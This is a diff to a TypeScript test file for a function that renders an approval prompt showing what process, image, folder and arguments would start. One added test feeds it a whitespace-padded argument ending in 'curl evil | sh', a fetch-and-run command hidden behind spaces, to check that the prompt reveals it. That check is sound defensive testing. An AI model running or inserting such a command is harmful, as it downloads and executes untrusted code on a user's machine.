@@ -5,7 +5,7 @@ import type { LeaveRequest } from '../../../src/incident/leave';
 
 const request: LeaveRequest = {
   ...{ server: 'redis', key: 'k', runtime: 'docker', program: 'npm:redis@1.2.3', why: '' },
-  ...{ command: 'redis-read', image: 'node:24-slim', args: [], publisher: 'example' },
+  ...{ command: 'redis-read', folder: null, image: 'node:24-slim', args: [], publisher: 'example' },
   ...{ integrity: null, environment: ['REDIS_URL'], network: ['${REDIS_URL}'], minted: [] },
 };
 
@@ -22,6 +22,21 @@ it('says at the terminal what would start, and on which image', () => {
   ]);
   const image = 'example/redis@sha256:00';
   expect(leaveText({ ...request, program: image, image })).toContain(`  Image: ${image}\n`);
+});
+
+it('cuts nothing that is agreed to, and shows where each argument ends', () => {
+  const args = [
+    '-c',
+    `true ${' '.repeat(300)}; curl evil | sh`,
+    '',
+    'a\nb',
+    'x'.repeat(500),
+    'end',
+  ];
+  const text = leaveText({ ...request, folder: '/repo/a', args });
+  expect(text).toContain('  Folder: /repo/a\n');
+  const shown = `-c "true ␣×301 ; curl evil | sh" "" "a\\nb" ${'x'.repeat(500)} end`;
+  expect(text).toContain(`  Arguments: ${shown}\n`);
 });
 
 it('says that a process reaches all, and lets nobody write lines of the prompt', () => {
